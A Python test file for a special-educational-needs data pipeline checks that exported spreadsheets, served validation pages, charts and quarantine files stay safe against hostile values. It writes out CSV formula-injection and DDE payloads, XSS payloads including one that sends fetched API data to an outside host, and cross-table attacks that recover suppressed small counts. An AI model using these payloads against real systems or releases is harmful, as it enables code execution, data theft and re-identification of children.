"""The publication attack corpus (issue 16, part A): what an attacker can write into a value that the
project publishes or serves, and what a reader can work back from what is published together.

Classes and their expected outcomes (each case is one parametrised test id; `CASES` counts them):
- formula: a value a spreadsheet would run is written inert to every CSV (leading apostrophe) and XLSX
  (a string cell, never a formula); a real number stays a number ("neutralised" | "kept").
- docs_xss: markup in a failing value never reaches a page the health view serves as markup, and every
  response carries the strict CSP ("inert").
- disclosure: a cell hidden in one published table cannot be worked out from the others published with
  it; each attack is shown to work on the tables protected one by one ("recoverable alone") and to fail
  on the tables protected together ("not recoverable").
- mathtext: a name with TeX in it is drawn literally in a pack chart ("literal").
- ops_values: a quarantine reason never carries the value; the value stays in the owner-only
  quarantine file ("value only in the quarantine file").
"""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from send_pipeline.kernel.safe_cells import csv_safe, csv_text, dangerous, xlsx_cell

# ------------------------------------------------------------------------------------ formula injection
FORMULA = [  # (id, value as it arrives, outcome)
    ("equals-sum", "=1+1", "neutralised"),
    ("hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"Click for your results")', "neutralised"),
    ("dde-cmd", "=cmd|' /C calc'!A0", "neutralised"),
    ("plus-dde", "+cmd|' /C calc'!A0", "neutralised"),
    ("minus-dde", "-2+3+cmd|' /C calc'!A0", "neutralised"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0", "neutralised"),
    ("tab-first", "\t=1+1", "neutralised"),
    ("cr-first", "\r=1+1", "neutralised"),
    ("space-then-equals", "  =IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "neutralised"),
    ("newline-then-equals", "\n=WEBSERVICE(\"http://evil.example\")", "neutralised"),
    ("fullwidth-equals", "\uff1d1+1", "neutralised"),
    ("minus-expression", "-1+1", "neutralised"),
    ("phone-like", "+44 20 7946 0000", "neutralised"),
    ("school-name-dash", "-St Mary's- Academy", "neutralised"),
    ("role-at", "@Senior Caseworker", "neutralised"),
    ("negative-amount-text", "-120.00", "kept"),
    ("negative-integer-text", "-5", "kept"),
    ("plus-integer-text", "+5", "kept"),
    ("equals-inside", "Smith = Jones Academy", "kept"),
    ("apostrophe-name", "O'Brien & <Sons>", "kept"),
]


@pytest.mark.parametrize("value,outcome", [(v, o) for _, v, o in FORMULA], ids=[i for i, _, _ in FORMULA])
def test_formula_csv_cell(value, outcome):
    written = csv_text(value)
    if outcome == "neutralised":
        assert dangerous(value) and written == "'" + value
    else:
        assert not dangerous(value) and written == value
    # read back as a spreadsheet would: the first character of the cell is never a formula trigger
    text = pd.DataFrame({"school_name": [value]}).pipe(csv_safe).to_csv(index=False)
    cell = next(csv.reader(io.StringIO(text[text.index("\n") + 1:], newline="")))[0]
    assert not cell.lstrip(" \n").startswith(("=", "+", "@", "\t", "\r", "\uff1d")) or outcome == "kept"
    if outcome == "neutralised":
        assert cell.startswith("'")


def _xlsx_cells(values) -> list:
    from openpyxl import Workbook, load_workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    ws.append([xlsx_cell(ws, v) for v in values])
    out = io.BytesIO()
    wb.save(out)
    sheet = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element at all
    return list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=False))[0]


@pytest.mark.parametrize("value,outcome", [(v, o) for _, v, o in FORMULA], ids=[i for i, _, _ in FORMULA])
def test_formula_xlsx_cell(value, outcome):
    cell = _xlsx_cells([value])[0]
    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\r")  # the text kept exactly, as text
    assert cell.quotePrefix == (outcome == "neutralised")


def test_formula_real_negative_money_stays_a_number():
    cells = _xlsx_cells([-120.0, -17581.25, 0, 3])
    assert [c.data_type for c in cells] == ["n"] * 4 and cells[0].value == -120
    frame = csv_safe(pd.DataFrame({"amount": [-120.0, 5.5], "label": ["-120.00", "=1"]}))
    assert frame.amount.tolist() == [-120.0, 5.5] and frame.label.tolist() == ["-120.00", "'=1"]


def test_formula_control_characters_do_not_abort_the_workbook():
    cell = _xlsx_cells(["Bell\x07 School\x00"])[0]
    assert cell.value == "Bell\ufffd School\ufffd"


def _release(la_name: str, school: str):
    from send_pipeline.foi import catalogue as cat_mod
    from send_pipeline.foi.export import Published, Release

    table = cat_mod.load().table("special_school_places")
    frame = pd.DataFrame([{"time_period": "202425", "time_identifier": "Academic year", "geographic_level": "Local authority",
                           "new_la_code": "E0", "old_la_code": "999", "la_name": la_name, "school_urn": "100001",
                           "school_name": school, "school_type": "Special", "places": 100, "la_pupils": 80,
                           "pct_places_filled_by_la": 80.0}])[table.columns]
    return Release(date(2026, 2, 1), "999", la_name, 5, [Published(table, frame)])


@pytest.mark.parametrize("school", ['=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "-1+cmd|' /C calc'!A0"])
def test_formula_foi_csv_and_workbook(school):
    """The FOI writers end to end: the DfE la_name and a GIAS school name, both hostile."""
    from openpyxl import load_workbook

    from send_pipeline.foi.export import csv_bytes
    from send_pipeline.foi.workbook import workbook_bytes

    release = _release("=1+1", school)
    text = csv_bytes(release.tables[0].frame, release.tables[0].table).decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["school_name"] == "'" + school and row["la_name"] == "'=1+1" and row["la_pupils"] == "80"
    data = workbook_bytes(release)
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name).decode(), name
    wb = load_workbook(io.BytesIO(data))
    texts = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value in (school, "=1+1")]
    assert texts and all(c.data_type == "s" for c in texts)
    assert wb["Cover"]["A1"].value == "SEND FOI tables: =1+1" and wb["Cover"]["A1"].data_type == "s"


def test_formula_sen2_and_quarantine_files(tmp_path):
    from send_pipeline.nightly.validate import record as pipeline
    from send_pipeline.sen2 import report

    path = report.write_csv(tmp_path / "validation.csv", pd.DataFrame({"message": ["=cmd|' /C calc'!A0"], "row": [3]}))
    assert next(csv.DictReader(path.open()))["message"] == "'=cmd|' /C calc'!A0"
    run = SimpleNamespace(quality_dir=tmp_path)
    (tmp_path / "quarantine").mkdir()
    pipeline._write_quarantine(run, "person", lambda rows: pd.DataFrame({"forename": ["@Finley"]}),
                               [{"row": 0, "column": "forename", "value": "@Finley", "rule": "parse", "reason": "bad"}])
    row = next(csv.DictReader((tmp_path / "quarantine" / "person.csv").open()))
    assert row["value"] == "'@Finley" and row["forename"] == "'@Finley"
    assert (tmp_path / "quarantine" / "person.csv").stat().st_mode & 0o077 == 0


def test_formula_every_csv_writer_goes_through_the_helper():
    """Any to_csv in the package (the synthetic generator aside: it plays the CMS) is wrapped in csv_safe."""
    root = Path(__file__).resolve().parents[2] / "plugins" / "send_pipeline"
    bare = []
    for path in root.rglob("*.py"):
        if "synth" in path.parts:
            continue
        for n, line in enumerate(path.read_text().splitlines(), 1):
            if ".to_csv(" in line and "csv_safe(" not in line:
                bare.append(f"{path.name}:{n}")
    assert bare == []


# -------------------------------------------------------------------------------------------- docs_xss
XSS = [
    ("close-table-img", "</table><img src=x onerror=alert(1)>"),
    ("script", "<script>fetch('/api/v2/variables').then(r=>r.text()).then(t=>new Image().src='//e.x/?'+t)</script>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("javascript-href", "<a href='javascript:alert(1)'>open</a>"),
    ("data-href", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"),
    ("meta-refresh", "<meta http-equiv='refresh' content='0;url=http://evil.example'>"),
    ("base-href", "<base href='http://evil.example/'>"),
    ("style-import", "<style>@import url(http://evil.example/x.css)</style>"),
    ("link-stylesheet", "<link rel=stylesheet href=http://evil.example/x.css>"),
    ("object-data", "<object data='http://evil.example/x.swf'></object>"),
    ("form-action", "<form action='http://evil.example'><input name=p></form>"),
    ("close-everything", "</div></td></tr></tbody></table></div></div><div onclick=alert(1)>phish</div>"),
    ("comment-break", "--><img src=x onerror=alert(1)><!--"),
    ("entity-encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("uppercase", "<IMG SRC=x OnError=alert(1)>"),
    ("foreign-img", "<img src='https://evil.example/pixel.gif'>"),
    ("backslash-host-href", "<a href='\\\\evil.example/login'>sign in again</a>"),
    ("entity-javascript-href", "<a href='&#106;ava&#x73;cript:alert(1)'>x</a>"),
]
TAG = re.compile(r"<\s*([a-zA-Z][^\s/>]*)([^>]*)>")
ACTIVE = {"script", "svg", "iframe", "object", "embed", "base", "form", "input", "style", "math", "frame", "img"}


class _Markup:
    """Active markup in a served page: a dangerous element, an event handler, a script or foreign URL."""

    @staticmethod
    def search(page: str):
        for m in TAG.finditer(page):
            name, attrs = m.group(1).lower(), m.group(2).lower()
            if name in ACTIVE or name == "meta" and "http-equiv" in attrs or re.search(r"\bon[a-z]+\s*=", attrs) \
                    or re.search(r"(javascript|data|vbscript):|evil\.example", attrs):
                return m
        return None


MARKUP = _Markup()


@pytest.fixture(scope="module")
def served_docs(tmp_path_factory):
    """Real GX Data Docs of failing values (each attack a value), served by the health view."""
    from fastapi.testclient import TestClient

    from send_pipeline.nightly.validate import expectations as quality
    from send_pipeline.ops import health_app
    from send_pipeline.kernel.settings import Settings

    tmp = tmp_path_factory.mktemp("docs")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SEND_OUTPUT_DIR", str(tmp / "output"))
        mp.setenv("SEND_DATA_DIR", str(tmp))
        mp.delenv("SEND_LAS", raising=False)
        settings = Settings.resolve()
        run = settings.output_dir / "quality" / "night1"
        docs = run / "data_docs" / "schools"
        validator = quality.Validator(docs)
        n = len(XSS)
        frame = pd.DataFrame({"urn": range(100001, 100001 + n), "la_code": ["331"] * n, "name": ["a"] * n,
                              "type_group": ["x"] * n, "status": ["open"] * n, "phase": ["p"] * n,
                              "ukprn": [v for _, v in XSS], "capacity": [10] * n})
        outcome = validator.validate("school", frame, {})
        validator.build_docs()
        (run / "validation").mkdir(parents=True)
        (run / "validation" / "school.json").write_text(json.dumps(outcome.result_json, default=str))
        health_app.app.dependency_overrides[health_app.logged_in_user] = lambda: {"user": "tester"}
        http = TestClient(health_app.app)
        pages = {str(p.relative_to(settings.output_dir)): p.read_text() for p in docs.rglob("*.html")}
        served = {rel: http.get("/docs/" + rel) for rel in pages}
        yield {"pages": pages, "served": served, "http": http}
        health_app.app.dependency_overrides.clear()


@pytest.mark.parametrize("payload", [v for _, v in XSS], ids=[i for i, _ in XSS])
def test_docs_xss_value_never_served_as_markup(served_docs, payload):
    raw = "".join(served_docs["pages"].values())
    assert payload in raw or payload.replace("'", "&#39;") in raw or "gx escaped it" == "", "GX no longer renders it raw"
    for rel, response in served_docs["served"].items():
        assert response.status_code == 200, rel
        assert payload not in response.text, rel
        found = MARKUP.search(response.text)
        assert found is None, (rel, found and response.text[max(0, found.start() - 80):found.end() + 80])
        policy = response.headers["content-security-policy"]
        assert "script-src 'none'" in policy and "default-src 'none'" in policy and "unsafe-inline" not in policy


@pytest.mark.parametrize("payload", [v for _, v in XSS], ids=[i for i, _ in XSS])
def test_docs_xss_sanitiser_alone(payload):
    """Defence in depth: the parsed-HTML rebuild on its own leaves no active markup from a value."""
    from send_pipeline.ops.data_docs import sanitise

    page = f"<html><head></head><body><table><tr><td><div>{payload}</div></td></tr></table><p>after</p></body></html>"
    clean = sanitise(page, 3)
    assert MARKUP.search(clean) is None, clean
    if not re.search(r"<(style|script)\b", payload) or re.search(r"</(style|script)>", payload):
        assert "after" in clean  # the rest of the page is kept (an unclosed <style> swallows it: fail closed)


def test_docs_xss_validation_pages_have_counts_not_values(served_docs):
    validations = {rel: r.text for rel, r in served_docs["served"].items() if "/validations/" in rel}
    assert validations
    for text in validations.values():
        assert "sample values withheld" in text and "ukprn" in text and "FAILED" in text
    index = next(r.text for rel, r in served_docs["served"].items() if rel.endswith("schools/index.html"))
    assert "Validation results: schools" in index and "script" not in index.lower()


def test_docs_xss_no_third_party_and_local_assets_served(served_docs):
    http = served_docs["http"]
    for rel, response in served_docs["served"].items():
        urls = re.findall(r'(?:href|src)="([^"]+)"', response.text)
        assert not [u for u in urls if u.startswith(("http:", "//")) or ("cdn" in u and u.startswith("https:"))], rel
        for url in urls:
            if "/static/" in url and url.endswith(".css") and "../" in url:
                depth = url.count("../")
                local = "/" + "/".join(("docs/" + rel).split("/")[:-1][:max(0, len(("docs/" + rel).split("/")) - 1 - depth)]
                                       + [url.split("../")[-1]])
                assert http.get(local.replace("//", "/")).status_code == 200, (rel, url, local)
    fonts = http.get("/static/fontawesome/css/all.min.css")
    assert fonts.status_code == 200 and "webfonts/fa-solid-900" in fonts.text
    assert http.get("/static/fontawesome/webfonts/fa-solid-900.woff2").status_code == 200
    assert http.get("/static/../data_docs.py").status_code == 404
    assert http.get("/static/README.md").status_code == 404
    page = http.get("/")
    assert "content-security-policy" in page.headers and "'sha256-" in page.headers["content-security-policy"]


# ----------------------------------------------------------------------------------------- disclosure
def _cat(tid):
    from send_pipeline.foi import catalogue as cat_mod

    return cat_mod.load().table(tid)


def _section(sid):
    from send_pipeline.pack import sections as S

    return next(s for s in S.SECTIONS if s.id == sid)


def _num(value):
    try:
        return float(value)
    except (TypeError, ValueError):
        return None


def _attack(*terms):
    """sum(sign * cell) over published cells, or None when one of them is hidden."""
    values = [_num(v) for _, v in terms]
    return None if any(v is None for v in values) else sum(s * v for (s, _), v in zip(terms, values))


def _funding():
    types = [("Mainstream school", 150, 900000.0), ("State-funded special school", 80, 1600000.0),
             ("Independent or non-maintained school", 21, 1050000.0),
             ("Alternative provision or home tuition", 3, 45000.0), ("Post-16 institution", 20, 160000.0)]
    from send_pipeline.foi.together import PROVISION_LABELS

    codes = {v: k for k, v in PROVISION_LABELS.items()}
    foi = pd.DataFrame([{"time_period": 202122, "time_identifier": "Financial year", "provision_type": t, "children": c,
                         "amount": a, "avg_funding_per_child": round(a / c, 2)} for t, c, a in types]
                       + [{"time_period": 202122, "time_identifier": "Financial year", "provision_type": "Total",
                           "children": 274, "amount": 3755000.0, "avg_funding_per_child": round(3755000 / 274, 2)}])
    pack = pd.DataFrame([{"financial_year": "2021-22", "provision_type": codes[t], "amount": a, "pupils": c,
                          "avg_cost_per_pupil": round(a / c, 2)} for t, c, a in types])
    cost = pack[["financial_year", "provision_type", "pupils", "avg_cost_per_pupil"]].copy()
    return {"foi:funding_per_child_by_provision": foi, "pack:spend_by_provision": pack, "pack:cost_per_pupil": cost}


def _ehcna():
    foi = pd.DataFrame([{"time_period": 2024, "time_identifier": "Calendar year", "requests_received": 120,
                         "decided_to_assess": 80, "decided_not_to_assess": 30, "withdrawn": 8, "undecided": 2,
                         "decisions_made": 113, "decisions_within_6_weeks": 95, "decisions_after_6_weeks": 18,
                         "pc_decisions_within_6_weeks": 84.1, "plans_issued": 70, "plans_issued_within_20_weeks": 50,
                         "plans_issued_20_to_52_weeks": 18, "plans_issued_over_52_weeks": 2,
                         "pc_plans_issued_within_20_weeks": 71.4, "exception_cases": 3, "exception_cases_within_20_weeks": 2,
                         "plans_issued_excluding_exceptions": 67, "plans_issued_within_20_weeks_excluding_exceptions": 48,
                         "pc_plans_issued_within_20_weeks_excluding_exceptions": 71.6}])
    requests = pd.DataFrame([{"year": 2024, "requests_received": 120, "plans_issued": 70}])
    plans = [6, 6, 6, 6, 6, 6, 6, 6, 6, 6, 5, 5]
    within = [4, 4, 4, 4, 4, 4, 4, 4, 4, 5, 5, 4]
    plans_ex = [5, 5, 5] + plans[3:]
    within_ex = [3, 3] + within[2:]
    months = [{"year": 2024, "month": 202401 + i, "plans_issued": p, "within_20_weeks": w, "not_within_20_weeks": p - w,
               "plans_issued_ex": pe, "within_20_weeks_ex": we, "not_within_20_weeks_ex": pe - we}
              for i, (p, w, pe, we) in enumerate(zip(plans, within, plans_ex, within_ex))]
    months.append({"year": 2024, "month": "Total", "plans_issued": 70, "within_20_weeks": 50, "not_within_20_weeks": 20,
                   "plans_issued_ex": 67, "within_20_weeks_ex": 48, "not_within_20_weeks_ex": 19})
    return {"foi:ehcna_requests_and_plans": foi, "pack:requests_and_plans": requests,
            "pack:timeliness_by_month": pd.DataFrame(months)}


def _reviews():
    held = [20, 22, 18, 3, 25, 30, 21, 19, 24, 26, 23, 20]  # 2024; March... April has 3 (small)
    ontime = [15, 16, 14, 2, 20, 25, 16, 15, 20, 21, 18, 16]
    months = [{"month": 202401 + i, "reviews_held": h, "paperwork_on_time": o, "paperwork_late": h - o,
               "paperwork_not_yet_due": 0, "decision_on_time": h, "decision_late": 0, "decision_not_yet_due": 0}
              for i, (h, o) in enumerate(zip(held, ontime))]
    total_held, total_on = sum(held), sum(ontime)
    rows = []
    for rtype, h, o in (("Annual review", total_held - 40, total_on - 30), ("Phase transfer", 40, 30), ("Total", total_held, total_on)):
        rows.append({"time_period": 2024, "time_identifier": "Calendar year", "review_type": rtype, "reviews_held": h,
                     "paperwork_on_time": o, "paperwork_late": h - o, "paperwork_outstanding_late": 0, "paperwork_pending": 0,
                     "pct_paperwork_on_time": round(100 * o / h, 1), "decision_on_time": h, "decision_late": 0,
                     "decision_outstanding_late": 0, "decision_pending": 0, "pct_due_decisions_within_4_weeks": 100.0,
                     "pc_decsion_4weeks": 100.0})
    return {"foi:annual_review_timeliness": pd.DataFrame(rows), "pack:review_compliance": pd.DataFrame(months)}


def _places():
    schools = [("100001", 120, 110), ("100002", 80, 60), ("100003", 40, 3), ("100004", 60, 21)]
    foi = pd.DataFrame([{"time_period": "202425", "time_identifier": "Academic year", "school_urn": u, "school_name": f"S{u}",
                         "school_type": "Special", "places": p, "la_pupils": n, "pct_places_filled_by_la": round(100 * n / p, 1)}
                        for u, p, n in schools]
                       + [{"time_period": "202425", "time_identifier": "Academic year", "school_urn": "Total",
                           "school_name": "Total", "school_type": "Total", "places": 300, "la_pupils": 194,
                           "pct_places_filled_by_la": 64.7}])
    pack = pd.DataFrame([{"time_period": "202425", "school_urn": u, "school_name": f"S{u}", "places": p, "la_pupils": n}
                         for u, p, n in schools])
    return {"foi:special_school_places": foi, "pack:special_school_places": pack}


def _layouts(frames):
    from send_pipeline.pack.build import layout

    return {name: (frame, _cat(name[4:]).layout if name.startswith("foi:") else layout(_section(name[5:])))
            for name, frame in frames.items()}


def _alone(frames):
    from send_pipeline.foi.disclosure import protect
    from send_pipeline.pack.build import protect as pack_protect

    out = {}
    for name, (frame, lay) in _layouts(frames).items():
        out[name] = (protect(frame, lay, 5).frame if name.startswith("foi:")
                     else pack_protect(_section(name[5:]), frame, "public", 5))
    return out


def _together(frames):
    from send_pipeline.foi.together import protect_all
    from send_pipeline.pack.build import protect as pack_protect

    protected = protect_all(_layouts(frames), 5)
    return {name: (protected[name].frame if name.startswith("foi:")
                   else pack_protect(_section(name[5:]), frame, "public", 5, protected[name]))
            for name, frame in frames.items()}


def _cell(published, name, column, **where):
    frame = published[name]
    for k, v in where.items():
        frame = frame[frame[k].astype(str) == str(v)]
    assert len(frame) == 1, (name, where)
    return frame.iloc[0][column]


OTHER_TYPES = ("mainstream", "la_special", "independent_or_nonmaintained", "post_16")


def _total_minus(p, total, column, others, other_column, key, values, **where):
    """A published total minus the other parts published in another table."""
    return _attack((1, _cell(p, total, column, **where)),
                   *[(-1, _cell(p, others, other_column, **{key: v})) for v in values])


def ap_children(p):
    return _total_minus(p, "foi:funding_per_child_by_provision", "children", "pack:spend_by_provision", "pupils",
                        "provision_type", OTHER_TYPES, provision_type="Total"), 3


def ap_amount(p):
    return _total_minus(p, "foi:funding_per_child_by_provision", "amount", "pack:spend_by_provision", "amount",
                        "provision_type", OTHER_TYPES, provision_type="Total"), 45000


def ap_children_from_cost_table(p):
    return _total_minus(p, "foi:funding_per_child_by_provision", "children", "pack:cost_per_pupil", "pupils",
                        "provision_type", OTHER_TYPES, provision_type="Total"), 3


def post16_pupils_from_average(p):
    amount = _num(_cell(p, "pack:spend_by_provision", "amount", provision_type="post_16"))
    average = _num(_cell(p, "pack:cost_per_pupil", "avg_cost_per_pupil", provision_type="post_16"))
    hidden = _cell(p, "foi:funding_per_child_by_provision", "children", provision_type="Post-16 institution") == "c"
    return (round(amount / average) if hidden and amount and average else None), 20


def undecided(p):
    f = "foi:ehcna_requests_and_plans"
    return _attack((1, _cell(p, "pack:requests_and_plans", "requests_received", year=2024)),
                   (-1, _cell(p, f, "decided_to_assess")), (-1, _cell(p, f, "decided_not_to_assess")),
                   (-1, _cell(p, f, "withdrawn"))), 2


def undecided_via_decisions(p):
    f = "foi:ehcna_requests_and_plans"
    return _attack((1, _cell(p, "pack:requests_and_plans", "requests_received", year=2024)),
                   (-1, _cell(p, f, "decisions_made"))), 2


def over_52_weeks(p):
    f = "foi:ehcna_requests_and_plans"
    return _attack((1, _cell(p, "pack:timeliness_by_month", "not_within_20_weeks", month="Total")),
                   (-1, _cell(p, f, "plans_issued_20_to_52_weeks"))), 2


def over_52_weeks_via_plans(p):
    f = "foi:ehcna_requests_and_plans"
    return _attack((1, _cell(p, "pack:requests_and_plans", "plans_issued", year=2024)),
                   (-1, _cell(p, f, "plans_issued_within_20_weeks")), (-1, _cell(p, f, "plans_issued_20_to_52_weeks"))), 2


def exceptions(p):
    t = "pack:timeliness_by_month"
    return _attack((1, _cell(p, t, "plans_issued", month="Total")), (-1, _cell(p, t, "plans_issued_ex", month="Total"))), 3


def exceptions_via_foi(p):
    return _attack((1, _cell(p, "foi:ehcna_requests_and_plans", "plans_issued")),
                   (-1, _cell(p, "pack:timeliness_by_month", "plans_issued_ex", month="Total"))), 3


OTHER_MONTHS = [202401 + i for i in range(12) if i != 3]


def review_month(p):
    return _total_minus(p, "foi:annual_review_timeliness", "reviews_held", "pack:review_compliance", "reviews_held",
                        "month", OTHER_MONTHS, review_type="Total"), 3


def review_month_on_time(p):
    return _total_minus(p, "foi:annual_review_timeliness", "paperwork_on_time", "pack:review_compliance",
                        "paperwork_on_time", "month", OTHER_MONTHS, review_type="Total"), 2


def school_pupils(p):
    return _total_minus(p, "foi:special_school_places", "la_pupils", "pack:special_school_places", "la_pupils",
                        "school_urn", ("100001", "100002", "100004"), school_urn="Total"), 3


DISCLOSURE = [  # (id, the tables, the attack, does it work on the tables protected one by one)
    ("ap-children-foi-total-minus-pack", _funding, ap_children, True),
    ("ap-amount-foi-total-minus-pack", _funding, ap_amount, True),
    ("ap-children-via-cost-per-pupil", _funding, ap_children_from_cost_table, True),
    ("pupils-from-amount-over-average", _funding, post16_pupils_from_average, True),
    ("undecided-pack-requests-minus-decisions", _ehcna, undecided, False),
    # since issue 15 decisions_made is the DfE's 6-week population (decisions made in the year, whenever the
    # request was received; withdrawals are not decisions), so requests - decisions_made is not the undecided
    # count even in tables protected one by one
    ("undecided-pack-requests-minus-decisions-made", _ehcna, undecided_via_decisions, False),
    ("over-52-weeks-from-pack-year-total", _ehcna, over_52_weeks, True),
    ("over-52-weeks-from-pack-plans", _ehcna, over_52_weeks_via_plans, False),
    ("exceptions-from-pack-totals", _ehcna, exceptions, True),
    ("exceptions-foi-plans-minus-pack", _ehcna, exceptions_via_foi, True),
    ("review-month-foi-year-minus-months", _reviews, review_month, True),
    ("review-month-on-time-foi-year-minus-months", _reviews, review_month_on_time, False),
    ("school-pupils-foi-total-minus-pack", _places, school_pupils, True),
]


@pytest.mark.parametrize("tables,attack,works_alone", [c[1:] for c in DISCLOSURE], ids=[c[0] for c in DISCLOSURE])
def test_disclosure_attack_across_tables(tables, attack, works_alone):
    frames = tables()
    recovered, secret = attack(_alone(frames))
    assert (recovered is not None and round(recovered) == secret) == works_alone, "the attack on tables protected alone"
    published = _together(frames)
    recovered, _ = attack(published)
    assert recovered is None or round(recovered) != secret  # not recoverable
    from send_pipeline.foi.together import parts_of
    from send_pipeline.foi.joint import audit_together

    parts, sums = parts_of(_layouts(frames))
    assert audit_together({n: f for n, f in published.items()}, parts, 5, sums) == []


def test_disclosure_same_figure_hidden_alike_everywhere():
    frames = {**_funding(), **_places()}
    published = _together(frames)
    foi, pack = published["foi:funding_per_child_by_provision"], published["pack:spend_by_provision"]
    from send_pipeline.foi.together import PROVISION_LABELS

    for code, label in PROVISION_LABELS.items():
        a = foi[foi.provision_type == label]
        b = pack[pack.provision_type == code]
        if len(a) and len(b):
            assert (str(a.children.iloc[0]) == "c") == (str(b.pupils.iloc[0]) == "c"), code
            assert (str(a.amount.iloc[0]) == "c") == (str(b.amount.iloc[0]) == "c"), code


def test_disclosure_audit_finds_the_inconsistent_release():
    """The union audit is the attacker too: tables protected one by one fail it."""
    from send_pipeline.foi.joint import audit_together
    from send_pipeline.foi.together import parts_of

    frames = _funding()
    parts, sums = parts_of(_layouts(frames))
    problems = audit_together(_alone(frames), parts, 5, sums)
    assert any("shown in another" in p or "worked out" in p for p in problems)


def test_disclosure_different_figures_are_not_merged():
    """A pack figure that differs from the FOI one (another definition) is not the same figure: nothing
    is forced, and each table keeps its own protection."""
    frames = _funding()
    frames["pack:spend_by_provision"] = frames["pack:spend_by_provision"].assign(pupils=[151, 81, 22, 4, 21])
    published = _together(frames)
    assert _cell(published, "pack:spend_by_provision", "pupils", provision_type="la_special") == 81


# ------------------------------------------------------------------------------------------- mathtext
MATHTEXT = [
    ("frac-missing-arg", r"$\frac{a}$ Academy"),
    ("unclosed-dollar", "St Mary's $ School"),
    ("sqrt", r"$\sqrt{2}$ High"),
    ("bad-command", r"$\notacommand$"),
    ("caret-underscore", "$x^_y$ College"),
    ("two-dollars", "Cost $5 and $10 School"),
]


@pytest.mark.parametrize("name", [n for _, n in MATHTEXT], ids=[i for i, _ in MATHTEXT])
def test_mathtext_name_drawn_literally(name):
    from send_pipeline.pack.render import chart_svg

    section = _section("late_paperwork_schools")
    frame = pd.DataFrame({"school_urn": [100001, 100002], "school_name": [name, "Plain School"],
                          "reviews_held": [30, 20], "paperwork_late": [12, 7]})
    svg = chart_svg(section, frame)
    import html as html_mod

    assert html_mod.escape(name[:38], quote=False) in svg or name[:38] in svg


def test_mathtext_markup_in_a_name_is_text_in_the_svg():
    from send_pipeline.pack.render import chart_svg

    frame = pd.DataFrame({"school_urn": [1], "school_name": ["</svg><script>alert(1)</script>"],
                          "reviews_held": [30], "paperwork_late": [12]})
    svg = chart_svg(_section("late_paperwork_schools"), frame)
    assert "<script>" not in svg and "&lt;script&gt;" in svg


# ------------------------------------------------------------------------------------------ ops_values
OPS = [  # (id, entity, column, the value that arrives, the reason's words kept)
    ("name-in-whole-number", "ledger_line", "URN", "Finley Johnson", "is not a whole number"),
    ("upn-in-date", "ledger_line", "Posting Date", "A123456789012", "is not a date"),
    ("dob-us-order", "ledger_line", "Posting Date", "03/31/2014", "month/day order"),
    ("name-in-money", "ledger_line", "Amount", "Finley Johnson", "is not money"),
    ("apostrophe-name", "ledger_line", "URN", "O'Brien", "is not a whole number"),
    ("quoted-value", "ledger_line", "Amount", "'£12' or 'twelve'", "is not money"),
]


@pytest.mark.parametrize("entity,column,value,words", [c[1:] for c in OPS], ids=[c[0] for c in OPS])
def test_ops_values_reason_carries_no_value(entity, column, value, words):
    from send_pipeline.nightly.validate.rowwise import conform
    from send_pipeline.nightly.sources import ENTITIES
    from tests.nightly.validate.test_rowwise import ledger, row

    fields = {"URN": "urn", "Posting Date": "date", "Amount": "amount"}
    out = conform(ENTITIES[entity], ledger([row(), row("T2", **{fields[column]: value})]))
    (q,) = out.quarantine
    assert q["column"] == column and q["value"] == value  # the value: for the owner-only quarantine file
    assert words in q["reason"] and "the value" in q["reason"]
    for piece in re.split(r"[\s']+", value):
        if len(piece) >= 3:
            assert piece not in q["reason"], q["reason"]


def test_ops_values_columnar_path_agrees():
    import pyarrow as pa

    from send_pipeline.nightly.validate.columnar import conform_table
    from send_pipeline.nightly.sources import ENTITIES
    from tests.nightly.validate.test_rowwise import ledger, row

    raw = ledger([row(), row("T2", urn="Finley Johnson")])
    out = conform_table(ENTITIES["ledger_line"], pa.Table.from_pandas(raw.astype(str).where(raw.notna(), None),
                                                                      preserve_index=False))
    (q,) = out.quarantine
    assert q["value"] == "Finley Johnson" and "Finley" not in q["reason"] and "whole number" in q["reason"]


CASES = {"formula": 2 * len(FORMULA) + 7, "docs_xss": 2 * len(XSS) + 2, "disclosure": len(DISCLOSURE) + 3,
         "mathtext": len(MATHTEXT) + 1, "ops_values": len(OPS) + 1}
